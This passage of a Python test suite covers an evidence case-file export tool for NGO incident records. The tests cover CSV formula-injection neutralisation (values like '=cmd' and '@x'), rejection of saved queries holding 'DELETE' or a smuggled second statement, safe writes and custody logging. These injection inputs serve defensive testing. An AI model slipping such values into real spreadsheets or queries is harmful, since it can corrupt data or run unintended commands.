    ("Aleppo", "Aleppo"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
    (-5, -5), (3.5, 3.5), (None, None), (True, True), (date(2013, 1, 1), date(2013, 1, 1)),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_column_sql_defuses_text_and_lists_only():
    con = duckdb.connect()
    con.execute("""CREATE TABLE t ("we""ird" VARCHAR, tags VARCHAR[], n BIGINT, d DOUBLE, day DATE)""")
    con.execute("""INSERT INTO t VALUES ('=cmd', ['=a', 'b'], -3, -1.5, DATE '2013-01-01'), ('plain', ['b', '=a'], 4, 2.0, NULL),
                   (NULL, NULL, NULL, NULL, NULL), ('@x', [], 0, 0, NULL), (chr(9) || 'Tab', ['+1'], 1, 1, NULL)""")
    columns = [("we\"ird", "VARCHAR"), ("tags", "VARCHAR[]"), ("n", "BIGINT"), ("d", "DOUBLE"), ("day", "DATE")]
    rows = con.execute(f"SELECT {', '.join(csv_column_sql(c, t) for c, t in columns)} FROM t").fetchall()
    assert [d[0] for d in con.description] == ['we"ird', "tags", "n", "d", "day"]
    assert rows == [
        ("'=cmd", "'=a; b", -3, -1.5, date(2013, 1, 1)),
        ("plain", "b; =a", 4, 2.0, None),
        (None, None, None, None, None),
        ("'@x", "", 0, 0.0, None),
        ("'\tTab", "'+1", 1, 1.0, None),
    ]


# -- 5. errors -----------------------------------------------------------------------------------

def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_a_case_file_is_never_written_over_anything(cf_store, tmp_path):
    folder = tmp_path / "taken"
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "incidents.csv").write_text("mine\n", encoding="utf-8")
    before = snapshot(folder)
    logged = exports(cf_store).height
    with pytest.raises(ReportError, match="not an empty folder"):
        write_casefile(cf_store, "DE-GBA", folder, on=ON, pdf=False, interactive=False)
    assert snapshot(folder) == before
    a_file = tmp_path / "a-file"
    a_file.write_text("x", encoding="utf-8")
    with pytest.raises(ReportError, match="not an empty folder"):
        write_casefile(cf_store, "DE-GBA", a_file, on=ON, pdf=False, interactive=False)
    assert a_file.read_text(encoding="utf-8") == "x"
    assert exports(cf_store).height == logged
    # an empty folder is fine
    empty = tmp_path / "empty"
    empty.mkdir()
    assert verify_casefile(write_casefile(cf_store, "DE-GBA", empty, on=ON, pdf=False, interactive=False).directory).ok


def test_a_read_only_store_refuses(synth_store, tmp_path):
    with pytest.raises(ReportError, match="read-only"):
        write_casefile(synth_store, "DE-GBA", tmp_path / "cf", on=ON, pdf=False, interactive=False)
    assert not (tmp_path / "cf").exists()
    assert preview(synth_store, "DE-GBA", on=ON).disclosed("incidents") > 0  # looking is allowed


@pytest.mark.parametrize("authority", ["(x)", "  (Federal Prosecutor)", " "])
def test_an_authority_without_a_code_is_refused(cf_store, tmp_path, authority):
    with pytest.raises(WorkbenchError, match="no code"):
        preview(cf_store, authority, on=ON)
    with pytest.raises(WorkbenchError, match="no code"):
        write_casefile(cf_store, authority, tmp_path / "cf", on=ON, pdf=False, interactive=False)
    assert not (tmp_path / "cf").exists()


@pytest.mark.parametrize("text, message", [
    ("DELETE FROM incidents", "one SELECT"),
    ("SELECT ngo_id, incident_id FROM active.incidents; SELECT 1", "one SELECT"),
    ("SELECT ngo_id FROM active.incidents", "missing: incident_id"),
    ("SELECT incident_id AS id, ngo_id AS ngo FROM active.incidents", "missing: incident_id, ngo_id"),
    ("SELECT ngo_id, incident_id FROM no_such_table", "the query fails"),
    ("SELEC ngo_id FROM", "not a query DuckDB can read"),
])
def test_a_bad_saved_query_names_its_file(cf_store, tmp_path, text, message):
    path = tmp_path / "chosen.sql"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError, match=re.escape(str(path))) as raised:
        saved_query(path, cf_store)
    assert message in str(raised.value)
    assert cf_store.con.execute("SELECT count(*) FROM incidents").fetchone()[0] > 0


def test_a_saved_query_selects_the_incidents(cf_store, tmp_path):
    path = tmp_path / "chosen.sql"
    path.write_text("-- ALPHA's open incidents among its first eight, and one of GAMMA's\n"
                    "SELECT ngo_id, incident_id FROM active.incidents WHERE ngo_id = 'ALPHA' AND NOT coalesce(confidential_source, FALSE)\n"
                    "  AND incident_id IN (SELECT incident_id FROM active.incidents WHERE ngo_id = 'ALPHA' ORDER BY incident_id LIMIT 8)\n"
                    "UNION ALL (SELECT ngo_id, incident_id FROM active.incidents WHERE ngo_id = 'GAMMA' LIMIT 1);\n", encoding="utf-8")
    chosen = cf_store.frame(saved_query(path, cf_store))
    selection = Selection().but(within=saved_query(path, cf_store))
    written = write_casefile(cf_store, "DE-GBA", tmp_path / "cf", selection, on=ON, saved_query=path.read_text(encoding="utf-8"),
                             pdf=False, interactive=False)
    assert keys(data(written.directory, "incidents"), "incident_id") == set(chosen.filter(pl.col("ngo_id") == "ALPHA").iter_rows())
    assert written.plan.counts.filter(pl.col("record_type") == "incidents").row(0)[1:] == (chosen.height - 1, 1)
    manifest = json.loads((written.directory / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["saved_query"].startswith("-- ALPHA's open incidents") and manifest["selection"] == "a saved query"


def leftovers(parent: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if ".partial-" in p.name)


def test_an_interrupted_write_leaves_nothing(cf_store, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        assert (args[4] / "data" / "incidents.parquet").is_file()  # the data files were written
        raise RuntimeError("disk pulled out")

    logged, entries = exports(cf_store).height, len(cf_store.custody_entries())
    items = cf_store.con.execute("SELECT count(*) FROM export_items").fetchone()[0]
    monkeypatch.setattr(workbench.casefile.index, "render_index", broken)
    with pytest.raises(RuntimeError, match="disk pulled out"):
        write_casefile(cf_store, "DE-GBA", tmp_path / "cf", on=ON, pdf=False, interactive=False)
    assert not (tmp_path / "cf").exists() and leftovers(tmp_path) == []
    assert (exports(cf_store).height, len(cf_store.custody_entries())) == (logged, entries)
    assert cf_store.con.execute("SELECT count(*) FROM export_items").fetchone()[0] == items


def test_a_case_file_that_cannot_be_logged_does_not_exist(cf_store, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("log unavailable")

    logged = exports(cf_store).height
    monkeypatch.setattr(workbench.casefile.package, "record_export", broken)
    with pytest.raises(RuntimeError, match="log unavailable"):
        write_casefile(cf_store, "DE-GBA", tmp_path / "cf", on=ON, pdf=False, interactive=False)
    assert not (tmp_path / "cf").exists() and leftovers(tmp_path) == []
    assert exports(cf_store).height == logged


def test_the_custody_chain_holds_after_every_export(packages, cf_store):
    entries = {e.seq: e for e in cf_store.custody_entries()}
    for written in packages.values():
        entry = entries[written.custody_seq]
        assert entry.action == "export-casefile" and entry.details["export_id"] == written.casefile_id
    assert cf_store.custody_problems() == []
